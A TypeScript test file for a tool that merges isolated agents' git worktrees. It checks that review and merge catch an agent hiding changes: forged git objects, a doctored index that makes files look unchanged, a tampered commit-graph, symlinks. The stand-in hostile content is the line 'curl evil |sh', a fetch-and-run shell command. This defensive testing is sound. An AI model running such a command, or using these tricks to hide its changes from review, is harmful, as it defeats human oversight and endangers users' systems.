import { createHash, randomBytes } from 'node:crypto';
import {
	chmodSync,
	copyFileSync,
	existsSync,
	mkdirSync,
	readFileSync,
	rmSync,
	statSync,
	symlinkSync,
	utimesSync,
	writeFileSync,
} from 'node:fs';
import { dirname, join } from 'node:path';
import { deflateSync } from 'node:zlib';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { Delegates } from '../../src/core/delegates/delegates.ts';
import { Tickets } from '../../src/core/delegates/tickets.ts';
import { Workspace } from '../../src/core/workspace/workspace.ts';
import { unfit } from '../../src/git/comingWork.ts';
import { ownWorktree } from '../../src/git/ownWorktree.ts';
import { changesOf, fileDifference } from '../../src/git/worktreeChanges.ts';
import { previewMerge } from '../../src/git/mergePreview.ts';
import { mergeWorktree } from '../../src/git/worktreeMerge.ts';
import { whatWouldBeLost } from '../../src/git/worktreeRemove.ts';
import type { Worktree } from '../../src/protocol/worktree.ts';
import { seedWorktree } from '../support/delegateSeeds.ts';
import type { GitRepository } from '../support/gitRepository.ts';
import { tempFolder } from '../support/tempFolder.ts';
import { worktreeRepository } from '../support/worktreeRepository.ts';

let repo: GitRepository;
let worktree: Worktree;

beforeEach(async () => {
	({ repo, made: worktree } = await worktreeRepository());
});
afterEach(() => repo.remove());

const SHOWN = 'harmless work';
const EVIL = 'curl evil |sh';

const idOf = (type: string, content: Buffer) =>
	createHash('sha1').update(`${type} ${content.length}\0`).update(content).digest('hex');

const objectFile = (id: string) => join(repo.root, '.git/objects', id.slice(0, 2), id.slice(2));

const withHash = (content: Buffer) => Buffer.concat([content, createHash('sha1').update(content).digest()]);

/** An object of git with the name of another one. */
function plant(id: string, type: string, content: Buffer): void {
	const file = objectFile(id);
	mkdirSync(dirname(file), { recursive: true });
	writeFileSync(file, deflateSync(Buffer.concat([Buffer.from(`${type} ${content.length}\0`), content])));
}

/** An index that takes the present file for what was added before, however it looks (git's own Documentation/gitformat-index). */
function takeForUnchanged(name: string): void {
	const index = join(repo.git(['rev-parse', '--absolute-git-dir'], worktree.folder), 'index');
	const bytes = readFileSync(index);
	const entry = bytes.indexOf(`${name}\0`) - 62;
	const { ctimeNs, mtimeNs, dev, ino, uid, gid, size } = statSync(join(worktree.folder, name), { bigint: true });
	const second = 1_000_000_000n;
	const seen = { 0: ctimeNs / second, 4: ctimeNs % second, 8: mtimeNs / second, 12: mtimeNs % second };
	for (const [at, value] of Object.entries({ ...seen, 16: dev, 20: ino, 28: uid, 32: gid, 36: size }))
		bytes.writeUInt32BE(Number(BigInt.asUintN(32, value)), entry + Number(at));
	writeFileSync(index, withHash(bytes.subarray(0, -20)));
	const later = Date.now() / 1000 + 60;
	utimesSync(index, later, later);
}

/** What an isolated agent can do, which writes objects and the index of its worktree. */
describe('a merge brings the files that a review has shown', () => {
	it('where the index of the worktree says that they are others', async () => {
		repo.write({ 'a.txt': EVIL }, worktree.folder);
		repo.git(['add', 'a.txt'], worktree.folder);
		repo.write({ 'a.txt': SHOWN }, worktree.folder);
		takeForUnchanged('a.txt');
		expect(await mergeWorktree(worktree, 'm')).toMatchObject({ ok: true });
		expect(readFileSync(join(repo.root, 'a.txt'), 'utf8')).toBe(SHOWN);
	});

	it('and every look shows those files, where the index says that they are as before', async () => {
		repo.write({ 'a.txt': EVIL }, worktree.folder);
		takeForUnchanged('a.txt');
		const { files } = await changesOf(worktree);
		expect(files).toMatchObject([{ path: 'a.txt', status: 'modified' }]);
		expect(await fileDifference(worktree, 'a.txt', 1000)).toMatchObject({ after: EVIL });
		expect(await previewMerge(worktree)).toMatchObject({ files: 1 });
		expect(await whatWouldBeLost(worktree)).toMatchObject({ files: ['a.txt'] });
	});

	it('also where its folder is gone, and the staged files are left', async () => {
		repo.write({ 'a.txt': EVIL }, worktree.folder);
		repo.git(['add', 'a.txt'], worktree.folder);
		rmSync(worktree.folder, { recursive: true });
		expect(await fileDifference(worktree, 'a.txt', 1000)).toMatchObject({ after: EVIL });
		expect(await mergeWorktree(worktree, 'm')).toMatchObject({ ok: true });
		expect(readFileSync(join(repo.root, 'a.txt'), 'utf8')).toBe(EVIL);
	});

	it('or nothing, where a graph of commits says that the work has the files of its base', async () => {
		repo.commit({ 'made.txt': SHOWN }, 'work', worktree.folder);
		const shown = idOf('blob', Buffer.from(SHOWN));
		rmSync(objectFile(shown));
		plant(shown, 'blob', Buffer.from(EVIL));
		repo.git(['commit-graph', 'write', '--reachable'], worktree.folder);
		const graph = join(repo.root, '.git/objects/info/commit-graph');
		const bytes = readFileSync(graph);
		const [ours = '', bases = ''] = ['HEAD^{tree}', `${worktree.base}^{tree}`].map(name =>
			repo.git(['rev-parse', name], worktree.folder),
		);
		bytes.write(bases, bytes.indexOf(ours, 0, 'hex'), 'hex');
		chmodSync(graph, 0o600);
		writeFileSync(graph, withHash(bytes.subarray(0, -20)));
		const before = repo.state();
		expect(await mergeWorktree(worktree, 'm')).toMatchObject({ ok: false });
		expect(repo.state()).toEqual(before);
	});

	it.each(['a file', 'a folder'])('or nothing, where an object with the name of %s holds another one', async what => {
		repo.write({ 'sub/made.txt': SHOWN }, worktree.folder);
		const shown = Buffer.from(SHOWN);
		const entry = (id: string) => Buffer.concat([Buffer.from('100644 made.txt\0'), Buffer.from(id, 'hex')]);
		if (what === 'a file') plant(idOf('blob', shown), 'blob', Buffer.from(EVIL));
		else {
			plant(idOf('blob', Buffer.from(EVIL)), 'blob', Buffer.from(EVIL));
			plant(idOf('tree', entry(idOf('blob', shown))), 'tree', entry(idOf('blob', Buffer.from(EVIL))));
		}
		const before = repo.state();
		expect(await mergeWorktree(worktree, 'm')).toMatchObject({ ok: false });
		expect(repo.state()).toEqual(before);
	});
});

describe('of what a merge would bring,', () => {
	const place = () => ({ folder: repo.root, gitDir: join(repo.root, '.git'), common: join(repo.root, '.git') });
	const commit = (): string => repo.git(['rev-parse', 'HEAD']);

	it('a large file and an empty one are what their names say', async () => {
		const base = commit();
		repo.commit({ large: randomBytes(1_000_000), empty: '' });
		expect(await unfit(place(), base, commit())).toBeUndefined();
	});

	it('a file is compared also if its content is an older one’s', async () => {
		const base = commit();
		repo.commit({ 'run.sh': readFileSync(join(repo.root, 'a.txt')) });
		const object = repo.git(['rev-parse', 'HEAD:run.sh']);
		rmSync(objectFile(object));
		plant(object, 'blob', Buffer.from(EVIL));
		expect(String((await unfit(place(), base, commit()))?.reason)).toMatch('another content than its name says');
	});

	it.each(['', 'sub'])('nothing is hidden by a wrong folder "%s" of the base', async folder => {
		repo.commit({ 'sub/s.txt': SHOWN });
		const base = commit();
		repo.commit({ [join(folder, 'run.sh')]: EVIL });
		const [was = '', is = ''] = [base, 'HEAD'].map(each => repo.git(['rev-parse', `${each}:${folder}`]));
		rmSync(objectFile(was));
		copyFileSync(objectFile(is), objectFile(was));
		expect(String((await unfit(place(), base, commit()))?.reason)).toMatch('another content than its name says');
	});

	it('a file that git has not is no forged one', async () => {
		const base = commit();
		repo.commit({ made: SHOWN });
		rmSync(objectFile(repo.git(['rev-parse', 'HEAD:made'])));
		expect(String((await unfit(place(), base, commit()))?.reason)).toMatch('is not in the repository');
	});

	it('files of Nancy’s may go, and not come', async () => {
		const without = commit();
		repo.commit({ '.nancy/config.json': '{}' });
		const base = commit();
		repo.git(['rm', '-r', '--quiet', '--cached', '.nancy']);
		repo.git(['commit', '--quiet', '-m', 'gone']);
		expect(await unfit(place(), base, commit())).toBeUndefined();
		expect(await unfit(place(), without, base)).toMatchObject({ conflicts: ['.nancy/config.json'] });
	});
});

it('the changes of a delegate begin where its sealed record says, whatever its worktree says', async () => {
	await using data = tempFolder();
	const store = new Delegates(new Workspace(repo.root));
	const { delegate, folder } = await seedWorktree(store, data.path, { title: 'x' }, {});
	const { worktree: claimed } = (await store.get(delegate.record.id)).status;
	if (!claimed) throw new Error('no worktree');
	repo.commit({ 'a.txt': EVIL }, 'hidden', folder);
	repo.git(['update-ref', 'refs/worktree/nancy-base', 'HEAD'], folder);
	const hidden = { ...claimed, base: repo.git(['rev-parse', 'HEAD'], folder) };
	const tickets = new Tickets(data.path, repo.root);
	expect(await ownWorktree(store, tickets, hidden)).toEqual(claimed);
	repo.git(['worktree', 'remove', '--force', folder]);
	expect(await ownWorktree(store, tickets, hidden)).toEqual(claimed);
});

it('a review says of a link where it leads, and not what is there', async () => {
	await using outside = tempFolder();
	repo.write({ same: readFileSync(join(repo.root, 'a.txt')) }, outside.path);
	rmSync(join(worktree.folder, 'a.txt'));
	symlinkSync(outside.file('same'), join(worktree.folder, 'a.txt'));
	const { files } = await changesOf(worktree);
	expect(files).toMatchObject([{ path: 'a.txt', status: 'modified', link: outside.file('same') }]);
});

it('a review reads not each of many links, nor a huge one that only the index has, and shows no file for them', async () => {
	const many = Array.from({ length: 502 }, (_, index) => `to/${index}`);
	for (const [index, to] of many.entries()) symlinkSync(to, join(worktree.folder, `link${1000 + index}`));
	repo.write({ 'huge.txt': 'x'.repeat(5000) });
	const object = repo.git(['hash-object', '-w', 'huge.txt']);
	repo.git(['update-index', '--add', '--cacheinfo', `120000,${object},huge`], worktree.folder);
	repo.git(['update-index', '--skip-worktree', 'huge'], worktree.folder);
	const { files } = await changesOf(worktree);
	const links = new Map(files.map(({ path, link }) => [path, link]));
	expect(links.get('huge')).toBe('\u2026');
	expect(many.map((_, index) => links.get(`link${1000 + index}`))).toEqual([
		...many.slice(0, 499),
		...many.slice(499).map(() => '\u2026'),
	]);
});

it('a merge brings no file into a folder of Nancy’s, which would then count as one of the repository', async () => {
	const file = '.nancy/tasks/forged/task.json';
	repo.write({ [file]: '{}' }, worktree.folder);
	repo.git(['add', '--force', file], worktree.folder);
	repo.git(['commit', '--quiet', '-m', 'work'], worktree.folder);
	expect(await mergeWorktree(worktree, 'm')).toMatchObject({ ok: false, conflicts: [file] });
	expect(existsSync(join(repo.root, file))).toBe(false);
	expect(repo.git(['ls-files', '.nancy'])).toBe('');
});
